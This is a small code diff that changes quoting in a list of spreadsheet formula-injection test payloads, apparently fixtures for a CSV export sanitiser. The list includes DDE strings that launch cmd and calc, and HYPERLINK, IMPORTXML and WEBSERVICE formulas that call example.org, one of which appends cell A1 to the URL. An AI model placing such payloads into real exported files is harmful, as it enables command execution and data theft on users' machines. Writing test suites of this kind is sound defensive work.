@@ -24,7 +24,7 @@ PAYLOADS = [
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://example.org?x="&A1,"点这里")',
     '=IMPORTXML("http://example.org","//a")',
-    "=WEBSERVICE(\"http://example.org\")",
+    '=WEBSERVICE("http://example.org")',
     "+1+1",
     "+86 138 0013 8000",
     "-1+1",
@@ -51,7 +51,7 @@ PAYLOADS = [
     "%0A=1+1",
     "=1+1;乙",
     "{=1+1}",
-    "=DDE(\"cmd\";\"/C calc\";\"a\")",
+    '=DDE("cmd";"/C calc";"a")',
 ]
 
 
